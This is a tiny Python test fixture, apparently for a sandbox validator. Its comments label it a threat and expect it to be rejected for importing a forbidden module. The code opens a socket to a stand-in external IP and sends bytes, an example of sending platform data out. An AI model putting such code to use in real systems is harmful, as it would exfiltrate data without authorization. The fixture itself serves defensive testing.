# threat: opens a socket to send the platform's data out
# expect: rejected static:forbidden-module
import socket

_s = socket.create_connection(("203.0.113.7", 443), timeout=2)
_s.sendall(b"hello")
